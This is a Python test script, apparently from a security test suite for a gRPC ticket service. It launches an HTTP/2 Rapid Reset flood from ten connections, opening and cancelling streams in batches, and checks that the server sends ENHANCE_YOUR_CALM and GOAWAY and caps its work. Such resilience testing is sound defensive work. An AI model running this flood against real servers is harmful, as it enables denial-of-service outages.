#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""H1 Rapid Reset: streams that are opened and cancelled in the same breath, from ten connections."""
import struct

from hostile import DURATION, endings, judge, main, session_of
from raw_client import CALM, CANCEL, END_HEADERS, END_STREAM, HEADERS, RST, frame

BATCH, CONNECTIONS, SLOTS = 50, 10, 100
CALLS = 'kith_calls_total{method="/kith.v1.TicketService/ListTickets",'
PATH = "/kith.v1.TicketService/ListTickets"
RESET = struct.pack(">I", CANCEL)


def flood(site, number):
    """Until the server has enough: (how it ended, streams that the server took)."""
    client = site.attacker(number, token=session_of(site, number))
    if client.token:
        client.authenticate()
    stream, fields = 3, client.fields(PATH)
    client.send(client.headers(stream, fields, END_HEADERS | END_STREAM))
    # From here on everything is in the table of the server.
    block = client.encoder.encode(fields, huffman=False)
    for _ in range(200):
        batch = []
        for _ in range(BATCH):
            stream += 2
            batch += [frame(HEADERS, END_HEADERS | END_STREAM, stream, block),
                      frame(RST, 0, stream, RESET)]
        client.send(*batch)
    return client.last_words()[0]


def attack(site):
    before = site.metrics()
    ends = endings(site, DURATION, CONNECTIONS, flood)
    after = site.metrics()
    begun = sum(after[name] - before.get(name, 0) for name in after
                if name.startswith(CALLS) and "RESOURCE_EXHAUSTED" not in name)
    calm = sum(end is not None and end[1] == CALM for end in ends)
    most = max(((end[0] + 1) // 2 for end in ends if end), default=0)
    loads = after["kith_session_loads_total"] - before["kith_session_loads_total"]
    return [(f"connections of {len(ends)} that end with ENHANCE_YOUR_CALM", calm, len(ends),
             calm == len(ends)),
            ("streams until GOAWAY, at most", most, "<= 1000", 0 < most <= 1000),
            ("calls of the attackers that began, of each connection", f"{begun / len(ends):.1f}",
             f"<= {SLOTS}", begun <= SLOTS * len(ends)),
            ("sessions looked up", int(loads), f"<= {len(ends)}", loads <= len(ends))]


main(judge, "H1", attack)
